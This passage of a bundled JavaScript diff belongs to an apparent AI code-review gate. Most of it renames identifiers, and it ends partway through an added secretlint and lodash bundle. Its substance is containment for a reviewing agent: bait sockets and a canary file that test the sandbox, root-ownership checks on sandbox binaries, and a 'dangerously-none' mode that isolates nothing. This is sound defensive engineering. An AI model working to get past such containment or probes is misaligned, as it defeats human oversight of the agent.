 async function find_opencode_isExecutable(path) {
     try {
-        await (0,promises_namespaceObject.access)(path, external_node_fs_namespaceObject.constants.X_OK);
+        await (0,promises_namespaceObject.access)(path, external_node_fs_.constants.X_OK);
         return (await (0,promises_namespaceObject.stat)(path)).isFile();
     }
     catch {
@@ -39693,7 +46263,7 @@ function showPathInBrief(path) {
     return path.replaceAll('\\u{', '\\u{5c}u{').replaceAll('\t', '\\u{9}').replace(visible_UNSEEN, codeOf);
 }
 /** Whether a text holds only characters that a person sees, tabs and line feeds. */
-function isPlain(text) {
+function visible_isPlain(text) {
     return showUnseen(text.replaceAll('\n', ' ')) === text.replaceAll('\n', ' ');
 }
 /**
@@ -39716,7 +46286,7 @@ function codeOf(character) {
 ;// CONCATENATED MODULE: ./build/review/tool-arguments.js
 
 /** Arguments that name a place. Everything else (a search text, content) may quote the change and is only measured. */
-const PLACES = new Set(['filePath', 'path', 'include', 'offset', 'limit']);
+const tool_arguments_PLACES = new Set(['filePath', 'path', 'include', 'offset', 'limit']);
 const CAP = 200;
 /** A tool call's input for the trail: places as they are, other strings by their length, at most 200 characters. */
 function describeArguments(input) {
@@ -39733,7 +46303,7 @@ function describeValue(key, value) {
         return String(value);
     if (typeof value !== 'string')
         return `(${typeof value})`;
-    return PLACES.has(key) ? showUnseen(value.slice(0, CAP)) : `(${value.length} characters)`;
+    return tool_arguments_PLACES.has(key) ? showUnseen(value.slice(0, CAP)) : `(${value.length} characters)`;
 }
 
 ;// CONCATENATED MODULE: ./build/review/run-log.js
@@ -40242,10 +46812,10 @@ const BASE_URL = '{env:GATE_URL}/v1';
  * `{env:…}` and `{file:…}` anywhere in the text, so those of foreign strings are written with an escaped brace.
  */
 function renderAgentConfig(parts) {
-    const text = JSON.stringify(configOf(parts)).replace(/\{(?=env:|file:)/g, '\\u007b');
+    const text = JSON.stringify(agent_config_configOf(parts)).replace(/\{(?=env:|file:)/g, '\\u007b');
     return text.replace(JSON.stringify(BASE_URL).replace('{', '\\u007b'), JSON.stringify(BASE_URL));
 }
-function configOf(parts) {
+function agent_config_configOf(parts) {
     const { agent, prompt, view, permission = reviewerPermission(view) } = parts;
     return {
         provider: { gate: providerOf(parts) },
@@ -40385,7 +46955,7 @@ function resourceLimits(limits, hard) {
 function readHardLimits() {
     if (process.platform !== 'linux')
         return new Map();
-    const limits = parseLimits((0,external_node_fs_namespaceObject.readFileSync)('/proc/self/limits', 'utf8'));
+    const limits = parseLimits((0,external_node_fs_.readFileSync)('/proc/self/limits', 'utf8'));
     return new Map([...limits].map(([label, [, hard]]) => [label, hard]));
 }
 /** The text of /proc/PID/limits as label → [soft, hard]; `unlimited` is Infinity. */
@@ -40511,20 +47081,20 @@ async function within(over, ms) {
 const dangerouslyNone = {
     name: 'dangerously-none',
     open: (mounts) => {
-        const base = (0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), `gate-none-${(0,external_node_crypto_namespaceObject.randomUUID)()}`);
-        const work = (0,external_node_path_namespaceObject.join)(base, 'work');
+        const base = (0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), `gate-none-${(0,external_node_crypto_namespaceObject.randomUUID)()}`);
+        const work = (0,external_node_path_.join)(base, 'work');
         let running = 0;
         return {
             rung: 'dangerously-none',
             inside: { view: mounts.view, work },
             start: () => {
                 running += 1;
-                (0,external_node_fs_namespaceObject.mkdirSync)(work, { recursive: true, mode: 0o700 });
-                const started = launch(mounts, work, (0,external_node_fs_namespaceObject.mkdtempSync)((0,external_node_path_namespaceObject.join)(base, 'run-')));
+                (0,external_node_fs_.mkdirSync)(work, { recursive: true, mode: 0o700 });
+                const started = launch(mounts, work, (0,external_node_fs_.mkdtempSync)((0,external_node_path_.join)(base, 'run-')));
                 void started.exited.then(() => {
                     running -= 1;
                     if (running === 0)
-                        (0,external_node_fs_namespaceObject.rmSync)(base, { recursive: true, force: true });
+                        (0,external_node_fs_.rmSync)(base, { recursive: true, force: true });
                 });
                 return started;
             },
@@ -40532,15 +47102,15 @@ const dangerouslyNone = {
     },
 };
 function launch(mounts, work, place) {
-    const [home, tmp] = [(0,external_node_path_namespaceObject.join)(place, 'home'), (0,external_node_path_namespaceObject.join)(place, 'tmp')];
+    const [home, tmp] = [(0,external_node_path_.join)(place, 'home'), (0,external_node_path_.join)(place, 'tmp')];
     for (const path of [home, tmp])
-        (0,external_node_fs_namespaceObject.mkdirSync)(path);
+        (0,external_node_fs_.mkdirSync)(path);
     const env = environment_environment({
         home,
         tmp,
         work,
         config: mounts.config,
-        bin: (0,external_node_path_namespaceObject.dirname)(mounts.ripgrep),
+        bin: (0,external_node_path_.dirname)(mounts.ripgrep),
         opencode: mounts.opencode,
         brokerSocket: mounts.brokerSocket,
         port: 0,
@@ -40697,7 +47267,7 @@ const END_MS = 4_000;
 /** State letter, empty for no process, and the parent's number, if any, of /proc/PID/stat. */
 function readStat(pid) {
     try {
-        const [, state = '', parent = '0'] = /\) ([A-Za-z]) (\d+)/.exec((0,external_node_fs_namespaceObject.readFileSync)(`/proc/${pid}/stat`, 'latin1')) ?? [];
+        const [, state = '', parent = '0'] = /\) ([A-Za-z]) (\d+)/.exec((0,external_node_fs_.readFileSync)(`/proc/${pid}/stat`, 'latin1')) ?? [];
         return { state, parents: parent === '0' ? [] : [Number(parent)] };
     }
     catch {
@@ -40710,12 +47280,12 @@ function readStat(pid) {
 
 /** Gives what other users may not read to the one that will; links are changed themselves, never followed. */
 function give(path, user) {
-    const entry = (0,external_node_fs_namespaceObject.lstatSync)(path);
+    const entry = (0,external_node_fs_.lstatSync)(path);
     if ((entry.mode & needed(entry)) !== needed(entry))
-        (0,external_node_fs_namespaceObject.lchownSync)(path, user, user);
+        (0,external_node_fs_.lchownSync)(path, user, user);
     if (entry.isDirectory())
-        for (const name of (0,external_node_fs_namespaceObject.readdirSync)(path))
-            give((0,external_node_path_namespaceObject.join)(path, name), user);
+        for (const name of (0,external_node_fs_.readdirSync)(path))
+            give((0,external_node_path_.join)(path, name), user);
 }
 /** The permission of others that makes an entry usable: read; search too for a directory; write to call a socket. */
 function needed(entry) {
@@ -40742,19 +47312,19 @@ function readMachine() {
     };
 }
 /** Root of a user namespace is somebody else to the kernel, and no danger. */
-const isRealRoot = () => process.geteuid?.() === 0 && /^\s*0\s+0\s+4294967295\s*$/.test((0,external_node_fs_namespaceObject.readFileSync)('/proc/self/uid_map', 'utf8'));
+const isRealRoot = () => process.geteuid?.() === 0 && /^\s*0\s+0\s+4294967295\s*$/.test((0,external_node_fs_.readFileSync)('/proc/self/uid_map', 'utf8'));
 /**
  * A program that only root can have put there. PATH is not asked: an earlier step of a workflow can change it.
  * Throws GateError `sandbox-unavailable`.
  */
 function trustedProgram(name, install, places = ['/usr/bin', '/bin']) {
-    const found = places.map((place) => (0,external_node_path_namespaceObject.join)(place, name)).find((path) => (0,external_node_fs_namespaceObject.existsSync)(path));
+    const found = places.map((place) => (0,external_node_path_.join)(place, name)).find((path) => (0,external_node_fs_.existsSync)(path));
     if (found === undefined) {
         throw new GateError('sandbox-unavailable', `${name} is not in ${places.join(' or ')}; install it (\`${install}\`).`);
     }
-    const path = (0,external_node_fs_namespaceObject.realpathSync)(found);
-    for (const part of [path, (0,external_node_path_namespaceObject.dirname)(path)]) {
-        const { uid, mode } = (0,external_node_fs_namespaceObject.statSync)(part);
+    const path = (0,external_node_fs_.realpathSync)(found);
+    for (const part of [path, (0,external_node_path_.dirname)(path)]) {
+        const { uid, mode } = (0,external_node_fs_.statSync)(part);
         if (uid === 0 && (mode & 0o022) === 0)
             continue;
         throw new GateError('sandbox-unavailable', `${part} does not belong to root alone, so another user could replace the sandbox; set owner root and mode 755.`);
@@ -40762,11 +47332,11 @@ function trustedProgram(name, install, places = ['/usr/bin', '/bin']) {
     return path;
 }
 function libraryRoot(path) {
-    const entry = (0,external_node_fs_namespaceObject.lstatSync)(path, { throwIfNoEntry: false });
+    const entry = (0,external_node_fs_.lstatSync)(path, { throwIfNoEntry: false });
     if (entry === undefined)
         return [];
     if (entry.isSymbolicLink())
-        return [{ kind: 'link', path, target: (0,external_node_fs_namespaceObject.readlinkSync)(path) }];
+        return [{ kind: 'link', path, target: (0,external_node_fs_.readlinkSync)(path) }];
     return [{ kind: 'directory', path }];
 }
 
@@ -40932,12 +47502,12 @@ function advice(trouble, kind) {
 function readKind() {
     return {
         appArmor: firstLine('/proc/sys/kernel/apparmor_restrict_unprivileged_userns') === '1',
-        container: (0,external_node_fs_namespaceObject.existsSync)('/.dockerenv') || (0,external_node_fs_namespaceObject.existsSync)('/run/.containerenv'),
+        container: (0,external_node_fs_.existsSync)('/.dockerenv') || (0,external_node_fs_.existsSync)('/run/.containerenv'),
     };
 }
 function firstLine(path) {
     try {
-        return (0,external_node_fs_namespaceObject.readFileSync)(path, 'utf8').split('\n')[0] ?? '';
+        return (0,external_node_fs_.readFileSync)(path, 'utf8').split('\n')[0] ?? '';
     }
     catch {
         // No such restriction on this kernel.
@@ -40956,8 +47526,8 @@ const external_node_net_namespaceObject = __WEBPACK_EXTERNAL_createRequire(impor
 
 async function layBait() {
     const { directory, canaryFile } = writeCanary();
-    const brokerSocket = (0,external_node_path_namespaceObject.join)(directory, 'broker.sock');
-    const pathSocket = (0,external_node_path_namespaceObject.join)(directory, 'other.sock');
+    const brokerSocket = (0,external_node_path_.join)(directory, 'broker.sock');
+    const pathSocket = (0,external_node_path_.join)(directory, 'other.sock');
     const abstractSocket = `\0gate-proof-${(0,external_node_crypto_namespaceObject.randomUUID)()}`;
     const brokerAnswer = (0,external_node_crypto_namespaceObject.randomUUID)();
     let visits = 0;
@@ -40986,15 +47556,15 @@ async function layBait() {
         remove: () => {
             for (const [server] of servers)
                 server.close();
-            (0,external_node_fs_namespaceObject.rmSync)(directory, { recursive: true, force: true });
+            (0,external_node_fs_.rmSync)(directory, { recursive: true, force: true });
         },
     };
 }
 function writeCanary() {
     try {
-        const directory = (0,external_node_fs_namespaceObject.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), 'gate-proof-'));
-        const canaryFile = (0,external_node_path_namespaceObject.join)(directory, 'canary');
-        (0,external_node_fs_namespaceObject.writeFileSync)(canaryFile, (0,external_node_crypto_namespaceObject.randomUUID)(), { mode: 0o600 });
+        const directory = (0,external_node_fs_.mkdtempSync)((0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), 'gate-proof-'));
+        const canaryFile = (0,external_node_path_.join)(directory, 'canary');
+        (0,external_node_fs_.writeFileSync)(canaryFile, (0,external_node_crypto_namespaceObject.randomUUID)(), { mode: 0o600 });
         return { directory, canaryFile };
     }
     catch (cause) {
@@ -41065,7 +47635,7 @@ const UNWRITABLE = [
 const paths = array(schemas_string());
 const descriptors = array(strictObject({ number: schemas_int(), link: schemas_string() })).nullable();
 /** What the probe says it could do. It comes from inside, so it is foreign until this has spoken. */
-const FACTS = strictObject({
+const facts_FACTS = strictObject({
     processes: paths,
     self: schemas_int(),
     descriptors,
@@ -41268,10 +47838,10 @@ function askProbe(process, plan) {
     });
 }
 function ownNamespaces() {
-    return (0,external_node_fs_namespaceObject.readdirSync)('/proc/self/ns').map((name) => (0,external_node_fs_namespaceObject.readlinkSync)(`/proc/self/ns/${name}`));
+    return (0,external_node_fs_.readdirSync)('/proc/self/ns').map((name) => (0,external_node_fs_.readlinkSync)(`/proc/self/ns/${name}`));
 }
 function parseFacts(answer) {
-    const { data } = FACTS.safeParse(answer);
+    const { data } = facts_FACTS.safeParse(answer);
     if (data !== undefined)
         return data;
     throw new GateError('sandbox-failed', 'The probe in the sandbox answered nonsense.');
@@ -41334,7 +47904,7 @@ function targets(bait) {
  */
 async function proveSandbox({ name, mounts, limits = DEFAULT_LIMITS, record, }) {
     const reasons = [];
-    for (const rung of candidates(name)) {
+    for (const rung of prove_sandbox_candidates(name)) {
         const report = await selfTest(rung, mounts, limits);
         const named = rung === dangerouslyNone && report.checks['starts'] === true;
         record(named ? { ...report, why: UNPROTECTED } : report);
@@ -41345,7 +47915,7 @@ async function proveSandbox({ name, mounts, limits = DEFAULT_LIMITS, record, }) 
     throw new GateError('sandbox-unavailable', `No sandbox could be proven on this machine, so nothing was reviewed. ${reasons.join(' ')}`);
 }
 const UNPROTECTED = 'Nothing is isolated: the agent can read, write and send whatever this user can. It runs because `dangerously-none` was asked for by name.';
-function candidates(name) {
+function prove_sandbox_candidates(name) {
     if (name === 'auto')
         return RUNGS;
     const named = NAMED_RUNGS.filter((rung) => rung.name === name);
@@ -41430,9 +48000,9 @@ function isTransportAllowed(upstream, allowPlainHttp) {
     if (!URL.canParse(upstream))
         return false;
     const url = new URL(upstream);
-    return url.protocol === 'https:' || allowPlainHttp || isLoopback(url.hostname);
+    return url.protocol === 'https:' || allowPlainHttp || settings_isLoopback(url.hostname);
 }
-function isLoopback(host) {
+function settings_isLoopback(host) {
     return host === 'localhost' || host === '[::1]' || /^127(\.\d{1,3}){3}$/u.test(host);
 }
 
@@ -41450,7 +48020,7 @@ function answerRefusal(dialect, { response, log }, { status, why }) {
  * Always the same: OpenCode repeats a call, whatever its status, when the text holds a number such as 429 or words
  * such as "server error". The reason is in the event.
  */
-const MESSAGE = 'The review gate ended this call.';
+const call_MESSAGE = 'The review gate ended this call.';
 /** The connection closes afterwards, so that a body that nobody read costs nothing. */
 function answerError(dialect, response, answer) {
     const { status, retryAfterSeconds } = answer;
@@ -41459,7 +48029,7 @@ function answerError(dialect, response, answer) {
         connection: 'close',
         ...(retryAfterSeconds !== undefined && { 'retry-after': String(retryAfterSeconds) }),
     });
-    response.end(dialect.renderError(MESSAGE));
+    response.end(dialect.renderError(call_MESSAGE));
 }
 
 ;// CONCATENATED MODULE: ./build/broker/checked.js
@@ -41606,7 +48176,7 @@ async function startBroker(start) {
         throw new GateError('input-invalid', 'The model key must be one line of printable ASCII without spaces; check the secret for line breaks.');
     }
     const token = (0,external_node_crypto_namespaceObject.randomBytes)(32).toString('hex');
-    const socket = (0,external_node_path_namespaceObject.join)(start.directory, 'broker.sock');
+    const socket = (0,external_node_path_.join)(start.directory, 'broker.sock');
     const judge = judgeCalls();
     const usage = sumUsage(start.settings.price !== null);
     let answered = 0;
@@ -41734,7 +48304,7 @@ function killGroup({ pid }) {
 const CONTEXT_TOKENS = 200_000;
 const OUTPUT_TOKENS = 16_000;
 /** Below 4 GiB of data JavaScriptCore works around what it cannot reserve: three times the time, and crashes. */
-const LIMITS = { ...DEFAULT_LIMITS, dataBytes: Math.max(DEFAULT_LIMITS.dataBytes, 8 * 1024 ** 3) };
+const prepare_run_LIMITS = { ...DEFAULT_LIMITS, dataBytes: Math.max(DEFAULT_LIMITS.dataBytes, 8 * 1024 ** 3) };
 /** One model call, in milliseconds. */
 const CALL_MS = 300_000;
 /**
@@ -41746,23 +48316,23 @@ async function prepareRun(request, view, terms) {
     const provider = resolveProvider(inputs.model, inputs['base-url']);
     checkKey(provider, request.apiKey);
     const directory = await prepare_run_makeDirectory(request.state);
-    const config = (0,external_node_path_namespaceObject.join)(directory, prepare_run_CONFIG);
+    const config = (0,external_node_path_.join)(directory, prepare_run_CONFIG);
     const found = await executables;
     const mounts = {
         view: view.directory,
         opencode: found.opencode,
         ripgrep: found.ripgrep,
         node: process.execPath,
-        relay: (0,external_node_path_namespaceObject.join)(dist, 'relay', 'index.js'),
+        relay: (0,external_node_path_.join)(dist, 'relay', 'index.js'),
         config,
-        brokerSocket: (0,external_node_path_namespaceObject.join)(directory, 'broker.sock'),
+        brokerSocket: (0,external_node_path_.join)(directory, 'broker.sock'),
     };
     const [broker, sandbox, checked] = await allOf([
         openBroker(request, provider, terms, directory),
         proveSandbox({
             name: inputs.sandbox,
             mounts,
-            limits: LIMITS,
+            limits: prepare_run_LIMITS,
             record: (report) => trail.record({ kind: 'rung', ...report }),
         }),
         found.checked,
@@ -41797,8 +48367,8 @@ async function prepareRun(request, view, terms) {
 const prepare_run_CONFIG = 'opencode.json';
 /** With an empty configuration in it, for the sandbox to be proven with. */
 async function prepare_run_makeDirectory(state) {
-    const directory = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)(state, 'run-')).catch(noRoom);
-    await writeConfig((0,external_node_path_namespaceObject.join)(directory, prepare_run_CONFIG), '{}');
+    const directory = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_.join)(state, 'run-')).catch(noRoom);
+    await writeConfig((0,external_node_path_.join)(directory, prepare_run_CONFIG), '{}');
     return directory;
 }
 async function writeConfig(path, text) {
@@ -41818,7 +48388,7 @@ async function openBroker(request, provider, { limits }, directory) {
     const { protocol, upstream, allowPlainHttp, outputLimitKey, model } = provider;
     const { requests, requestsPerMinute, inputTokens, outputTokens, costUsd } = limits;
     const broker = await startBroker({
-        bundle: (0,external_node_path_namespaceObject.join)(dist, 'broker', 'index.js'),
+        bundle: (0,external_node_path_.join)(dist, 'broker', 'index.js'),
         node: process.execPath,
         directory,
         trail,
@@ -41963,36 +48533,7438 @@ function opencode_agent_closed() {
     return new GateError('interrupted', 'The review was ended before it was complete.');
 }
 
+;// CONCATENATED MODULE: ../main/node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js
+
+
+var commonjsGlobal = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : typeof global !== 'undefined' ? global : typeof self !== 'undefined' ? self : {};
+
+var regexpStringMatcher = {};
+
+/**
+ * lodash (Custom Build) <https://lodash.com/>
+ * Build: `lodash modularize exports="npm" -o ./`
+ * Copyright jQuery Foundation and other contributors <https://jquery.org/>
+ * Released under MIT license <https://lodash.com/license>
+ * Based on Underscore.js 1.8.3 <http://underscorejs.org/LICENSE>
+ * Copyright Jeremy Ashkenas, DocumentCloud and Investigative Reporters & Editors
+ */
+
+var lodash_uniq;
+var hasRequiredLodash_uniq;
+
+function requireLodash_uniq () {
+	if (hasRequiredLodash_uniq) return lodash_uniq;
+	hasRequiredLodash_uniq = 1;
+	/** Used as the size to enable large array optimizations. */
+	var LARGE_ARRAY_SIZE = 200;
+
+	/** Used to stand-in for `undefined` hash values. */
+	var HASH_UNDEFINED = '__lodash_hash_undefined__';
+
+	/** Used as references for various `Number` constants. */
+	var INFINITY = 1 / 0;
+
+	/** `Object#toString` result references. */
+	var funcTag = '[object Function]',
+	    genTag = '[object GeneratorFunction]';
+
+	/**
+	 * Used to match `RegExp`
+	 * [syntax characters](http://ecma-international.org/ecma-262/7.0/#sec-patterns).
+	 */
+	var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+
+	/** Used to detect host constructors (Safari). */
+	var reIsHostCtor = /^\[object .+?Constructor\]$/;
+
+	/** Detect free variable `global` from Node.js. */
+	var freeGlobal = typeof commonjsGlobal == 'object' && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+
+	/** Detect free variable `self`. */
+	var freeSelf = typeof self == 'object' && self && self.Object === Object && self;
+
+	/** Used as a reference to the global object. */
+	var root = freeGlobal || freeSelf || Function('return this')();
+
+	/**
+	 * A specialized version of `_.includes` for arrays without support for
+	 * specifying an index to search from.
+	 *
+	 * @private
+	 * @param {Array} [array] The array to inspect.
+	 * @param {*} target The value to search for.
+	 * @returns {boolean} Returns `true` if `target` is found, else `false`.
+	 */
+	function arrayIncludes(array, value) {
+	  var length = array ? array.length : 0;
+	  return !!length && baseIndexOf(array, value, 0) > -1;
+	}
+
+	/**
+	 * The base implementation of `_.findIndex` and `_.findLastIndex` without
+	 * support for iteratee shorthands.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {Function} predicate The function invoked per iteration.
+	 * @param {number} fromIndex The index to search from.
+	 * @param {boolean} [fromRight] Specify iterating from right to left.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function baseFindIndex(array, predicate, fromIndex, fromRight) {
+	  var length = array.length,
+	      index = fromIndex + (-1);
+
+	  while ((++index < length)) {
+	    if (predicate(array[index], index, array)) {
+	      return index;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.indexOf` without `fromIndex` bounds checks.
+	 *
+	 * @private
+	 * @param {Array} array The array to inspect.
+	 * @param {*} value The value to search for.
+	 * @param {number} fromIndex The index to search from.
+	 * @returns {number} Returns the index of the matched value, else `-1`.
+	 */
+	function baseIndexOf(array, value, fromIndex) {
+	  if (value !== value) {
+	    return baseFindIndex(array, baseIsNaN, fromIndex);
+	  }
+	  var index = fromIndex - 1,
+	      length = array.length;
+
+	  while (++index < length) {
+	    if (array[index] === value) {
+	      return index;
+	    }
+	  }
+	  return -1;
+	}
+
+	/**
+	 * The base implementation of `_.isNaN` without support for number objects.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is `NaN`, else `false`.
+	 */
+	function baseIsNaN(value) {
+	  return value !== value;
+	}
+
+	/**
+	 * Checks if a cache value for `key` exists.
+	 *
+	 * @private
+	 * @param {Object} cache The cache to query.
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function cacheHas(cache, key) {
+	  return cache.has(key);
+	}
+
+	/**
+	 * Gets the value at `key` of `object`.
+	 *
+	 * @private
+	 * @param {Object} [object] The object to query.
+	 * @param {string} key The key of the property to get.
+	 * @returns {*} Returns the property value.
+	 */
+	function getValue(object, key) {
+	  return object == null ? undefined : object[key];
+	}
+
+	/**
+	 * Checks if `value` is a host object in IE < 9.
+	 *
+	 * @private
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is a host object, else `false`.
+	 */
+	function isHostObject(value) {
+	  // Many host objects are `Object` objects that can coerce to strings
+	  // despite having improperly defined `toString` methods.
+	  var result = false;
+	  if (value != null && typeof value.toString != 'function') {
+	    try {
+	      result = !!(value + '');
+	    } catch (e) {}
+	  }
+	  return result;
+	}
+
+	/**
+	 * Converts `set` to an array of its values.
+	 *
+	 * @private
+	 * @param {Object} set The set to convert.
+	 * @returns {Array} Returns the values.
+	 */
+	function setToArray(set) {
+	  var index = -1,
+	      result = Array(set.size);
+
+	  set.forEach(function(value) {
+	    result[++index] = value;
+	  });
+	  return result;
+	}
+
+	/** Used for built-in method references. */
+	var arrayProto = Array.prototype,
+	    funcProto = Function.prototype,
+	    objectProto = Object.prototype;
+
+	/** Used to detect overreaching core-js shims. */
+	var coreJsData = root['__core-js_shared__'];
+
+	/** Used to detect methods masquerading as native. */
+	var maskSrcKey = (function() {
+	  var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || '');
+	  return uid ? ('Symbol(src)_1.' + uid) : '';
+	}());
+
+	/** Used to resolve the decompiled source of functions. */
+	var funcToString = funcProto.toString;
+
+	/** Used to check objects for own properties. */
+	var hasOwnProperty = objectProto.hasOwnProperty;
+
+	/**
+	 * Used to resolve the
+	 * [`toStringTag`](http://ecma-international.org/ecma-262/7.0/#sec-object.prototype.tostring)
+	 * of values.
+	 */
+	var objectToString = objectProto.toString;
+
+	/** Used to detect if a method is native. */
+	var reIsNative = RegExp('^' +
+	  funcToString.call(hasOwnProperty).replace(reRegExpChar, '\\$&')
+	  .replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, '$1.*?') + '$'
+	);
+
+	/** Built-in value references. */
+	var splice = arrayProto.splice;
+
+	/* Built-in method references that are verified to be native. */
+	var Map = getNative(root, 'Map'),
+	    Set = getNative(root, 'Set'),
+	    nativeCreate = getNative(Object, 'create');
+
+	/**
+	 * Creates a hash object.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function Hash(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the hash.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf Hash
+	 */
+	function hashClear() {
+	  this.__data__ = nativeCreate ? nativeCreate(null) : {};
+	}
+
+	/**
+	 * Removes `key` and its value from the hash.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf Hash
+	 * @param {Object} hash The hash to modify.
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function hashDelete(key) {
+	  return this.has(key) && delete this.__data__[key];
+	}
+
+	/**
+	 * Gets the hash value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf Hash
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function hashGet(key) {
+	  var data = this.__data__;
+	  if (nativeCreate) {
+	    var result = data[key];
+	    return result === HASH_UNDEFINED ? undefined : result;
+	  }
+	  return hasOwnProperty.call(data, key) ? data[key] : undefined;
+	}
+
+	/**
+	 * Checks if a hash value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf Hash
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function hashHas(key) {
+	  var data = this.__data__;
+	  return nativeCreate ? data[key] !== undefined : hasOwnProperty.call(data, key);
+	}
+
+	/**
+	 * Sets the hash `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf Hash
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the hash instance.
+	 */
+	function hashSet(key, value) {
+	  var data = this.__data__;
+	  data[key] = (nativeCreate && value === undefined) ? HASH_UNDEFINED : value;
+	  return this;
+	}
+
+	// Add methods to `Hash`.
+	Hash.prototype.clear = hashClear;
+	Hash.prototype['delete'] = hashDelete;
+	Hash.prototype.get = hashGet;
+	Hash.prototype.has = hashHas;
+	Hash.prototype.set = hashSet;
+
+	/**
+	 * Creates an list cache object.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function ListCache(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the list cache.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf ListCache
+	 */
+	function listCacheClear() {
+	  this.__data__ = [];
+	}
+
+	/**
+	 * Removes `key` and its value from the list cache.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function listCacheDelete(key) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  if (index < 0) {
+	    return false;
+	  }
+	  var lastIndex = data.length - 1;
+	  if (index == lastIndex) {
+	    data.pop();
+	  } else {
+	    splice.call(data, index, 1);
+	  }
+	  return true;
+	}
+
+	/**
+	 * Gets the list cache value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function listCacheGet(key) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  return index < 0 ? undefined : data[index][1];
+	}
+
+	/**
+	 * Checks if a list cache value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf ListCache
+	 * @param {string} key The key of the entry to check.
+	 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+	 */
+	function listCacheHas(key) {
+	  return assocIndexOf(this.__data__, key) > -1;
+	}
+
+	/**
+	 * Sets the list cache `key` to `value`.
+	 *
+	 * @private
+	 * @name set
+	 * @memberOf ListCache
+	 * @param {string} key The key of the value to set.
+	 * @param {*} value The value to set.
+	 * @returns {Object} Returns the list cache instance.
+	 */
+	function listCacheSet(key, value) {
+	  var data = this.__data__,
+	      index = assocIndexOf(data, key);
+
+	  if (index < 0) {
+	    data.push([key, value]);
+	  } else {
+	    data[index][1] = value;
+	  }
+	  return this;
+	}
+
+	// Add methods to `ListCache`.
+	ListCache.prototype.clear = listCacheClear;
+	ListCache.prototype['delete'] = listCacheDelete;
+	ListCache.prototype.get = listCacheGet;
+	ListCache.prototype.has = listCacheHas;
+	ListCache.prototype.set = listCacheSet;
+
+	/**
+	 * Creates a map cache object to store key-value pairs.
+	 *
+	 * @private
+	 * @constructor
+	 * @param {Array} [entries] The key-value pairs to cache.
+	 */
+	function MapCache(entries) {
+	  var index = -1,
+	      length = entries ? entries.length : 0;
+
+	  this.clear();
+	  while (++index < length) {
+	    var entry = entries[index];
+	    this.set(entry[0], entry[1]);
+	  }
+	}
+
+	/**
+	 * Removes all key-value entries from the map.
+	 *
+	 * @private
+	 * @name clear
+	 * @memberOf MapCache
+	 */
+	function mapCacheClear() {
+	  this.__data__ = {
+	    'hash': new Hash,
+	    'map': new (Map || ListCache),
+	    'string': new Hash
+	  };
+	}
+
+	/**
+	 * Removes `key` and its value from the map.
+	 *
+	 * @private
+	 * @name delete
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to remove.
+	 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+	 */
+	function mapCacheDelete(key) {
+	  return getMapData(this, key)['delete'](key);
+	}
+
+	/**
+	 * Gets the map value for `key`.
+	 *
+	 * @private
+	 * @name get
+	 * @memberOf MapCache
+	 * @param {string} key The key of the value to get.
+	 * @returns {*} Returns the entry value.
+	 */
+	function mapCacheGet(key) {
+	  return getMapData(this, key).get(key);
+	}
+
+	/**
+	 * Checks if a map value for `key` exists.
+	 *
+	 * @private
+	 * @name has
+	 * @memberOf MapCache
+	 * @param {string} key The key of the entry to check.
